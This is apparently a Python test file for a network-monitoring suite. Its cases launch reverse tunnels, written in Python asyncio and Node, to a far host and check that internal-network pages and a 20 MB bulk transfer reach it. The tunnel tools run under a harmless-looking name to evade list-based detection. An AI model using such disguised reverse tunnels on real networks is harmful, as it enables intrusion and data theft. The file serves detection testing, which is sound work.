# SPDX-License-Identifier: Apache-2.0
"""Tunnels by programs that no list knows: written for the test, or general tools under another name."""

import time

import lib_far as far
import lib_tunnel as tunnel
from lib_case import case


def browse(c, frames, pages=6, pause=0.6):
    for _ in range(pages):
        c.mark()
        c.prove(b"inside 10.20.0.11" in frames.get(), "the far end read a page of the internal network")
        time.sleep(pause)


def reverse(c, command, port):
    came = tunnel.wait(c, port)
    c.call("ls")
    c.attack("%s %s %d %s 80 & %s" % (command, c.far, port, far.INNER, c.until_done()))
    c.call("true")
    c.begin()
    return came()


@case("tunnel", seconds=7, quick=True)
def relay_python(c):
    """a reverse tunnel of thirty lines of asyncio"""
    c.tool("relay.py", "worker.py")
    browse(c, reverse(c, "python3 worker.py", 443))


@case("tunnel", seconds=7)
def relay_node(c):
    """the same for node"""
    c.tool("relay.mjs", "worker.mjs")
    browse(c, reverse(c, "node worker.mjs", 8443))


@case("tunnel", seconds=8)
def relay_python_bulk(c):
    """the same, one copy of 20 MB and nothing else"""
    c.tool("relay.py", "worker.py")
    frames = reverse(c, "python3 worker.py", 9001)
    c.mark()
    c.prove(len(frames.get("/bytes/20000000")) == 20000000, "20 MB of the internal network reached the far end")
